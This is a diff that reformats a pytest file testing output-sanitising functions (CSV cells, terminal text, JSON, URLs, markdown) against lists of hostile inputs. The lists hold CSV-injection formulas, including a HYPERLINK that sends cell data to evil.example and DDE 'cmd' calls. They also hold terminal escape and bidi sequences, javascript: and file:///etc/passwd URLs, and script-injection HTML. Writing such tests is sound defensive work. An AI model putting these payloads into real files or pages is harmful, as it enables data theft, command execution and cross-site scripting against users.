@@ -11,11 +11,27 @@ import pytest
 from graphintro.output import csv_cell, csv_row, json_text, markdown_text, terminal_text, web_url
 
 # What a spreadsheet treats as a formula once the cell is read (OWASP, CSV injection).
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "=cmd|' /C notepad'!'A1'"]
-TERMINAL_ATTACKS = ["\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x9b2J",
-                    "name\x07\x08\x7f", "\u202eevil\u202c", "\u2066isolate\u2069", "a\u200bb", "\x1b]0;title\x07",
-                    "line\nbreak\rreturn"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "=cmd|' /C notepad'!'A1'",
+]
+TERMINAL_ATTACKS = [
+    "\x1b[31mred\x1b[0m",
+    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "\x9b2J",
+    "name\x07\x08\x7f",
+    "\u202eevil\u202c",
+    "\u2066isolate\u2069",
+    "a\u200bb",
+    "\x1b]0;title\x07",
+    "line\nbreak\rreturn",
+]
 
 
 @pytest.mark.parametrize("value", FORMULAS)
@@ -49,7 +65,9 @@ def test_terminal_text_keeps_real_names_readable():
     assert terminal_text("two\nlines") == "two lines"
 
 
-@pytest.mark.parametrize("value", ["\ud800 lone", "NUL\x00", "\x1b[31m", "\u202eabc", "\x85\x9b", "fin\udfff"])
+@pytest.mark.parametrize(
+    "value", ["\ud800 lone", "NUL\x00", "\x1b[31m", "\u202eabc", "\x85\x9b", "fin\udfff"]
+)
 def test_json_text_is_valid_utf8_json_for_any_string(value):
     text = json_text({"name": value})
     encoded = text.encode("utf-8")  # lone surrogates would raise here
@@ -57,9 +75,22 @@ def test_json_text_is_valid_utf8_json_for_any_string(value):
     assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e]", text.replace("\n", ""))
 
 
-@pytest.mark.parametrize("value", ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,<b>x</b>",
-                                   "vbscript:x", "//evil.example", "http://", "https://a b", "java\nscript:x",
-                                   "https://evil.example\x1b[0m", "file:///etc/passwd", ""])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "javascript:alert(1)",
+        "JavaScript:alert(1)",
+        "data:text/html,<b>x</b>",
+        "vbscript:x",
+        "//evil.example",
+        "http://",
+        "https://a b",
+        "java\nscript:x",
+        "https://evil.example\x1b[0m",
+        "file:///etc/passwd",
+        "",
+    ],
+)
 def test_only_http_urls_become_links(value):
     assert web_url(value) is None
 
@@ -70,11 +101,29 @@ def test_http_urls_are_kept():
 
 
 MARKDOWN_ATTACKS = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "[click](javascript:alert(3))",
-    "![x](http://evil.example/p.png)", "<https://evil.example>", "www.evil.example", "https://evil.example/x",
-    "evil@evil.example", "</textarea><b>bold</b>", "# heading", "| a | b |", "*em* __strong__ `code`",
-    "[ref]: http://evil.example", "&lt;script&gt;", "line\n\n<div>block</div>", "- item", "1. item",
-    "> quote", "=== ", "~~~\nfence", "\\<b>x\\</b>", "<!-- comment -->", "<a href='http://evil.example'>a</a>",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    "[click](javascript:alert(3))",
+    "![x](http://evil.example/p.png)",
+    "<https://evil.example>",
+    "www.evil.example",
+    "https://evil.example/x",
+    "evil@evil.example",
+    "</textarea><b>bold</b>",
+    "# heading",
+    "| a | b |",
+    "*em* __strong__ `code`",
+    "[ref]: http://evil.example",
+    "&lt;script&gt;",
+    "line\n\n<div>block</div>",
+    "- item",
+    "1. item",
+    "> quote",
+    "=== ",
+    "~~~\nfence",
+    "\\<b>x\\</b>",
+    "<!-- comment -->",
+    "<a href='http://evil.example'>a</a>",
 ]
 
 
